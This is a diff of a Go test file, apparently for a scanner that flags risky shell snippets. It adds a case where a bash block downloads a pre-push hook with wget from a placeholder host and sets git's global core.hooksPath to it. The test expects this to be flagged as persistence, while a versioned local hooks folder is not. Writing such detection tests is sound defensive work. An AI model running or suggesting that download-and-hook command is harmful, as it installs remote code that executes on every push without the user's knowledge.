@@ -152,3 +152,12 @@ func TestCatchAllRound5(t *testing.T) {
 		}
 	}
 }
+
+// TestHooksFromNetwork: core.hooksPath pointed at a directory the block
+// fills from the network is persistence; a versioned hooks folder is not.
+func TestHooksFromNetwork(t *testing.T) {
+	runConstructs4(t, []construct4{
+		{"wget into the hooks dir", "", "```bash\nmkdir -p ~/.githooks\nwget -q https://hooks.example.org/pre-push -O ~/.githooks/pre-push\nchmod +x ~/.githooks/pre-push\ngit config --global core.hooksPath ~/.githooks\n```", RuleTamperStartup, ""},
+		{"versioned hooks folder", "", "```bash\ngit config core.hooksPath .githooks\nchmod +x .githooks/*\n```", "", RuleTamperStartup},
+	})
+}
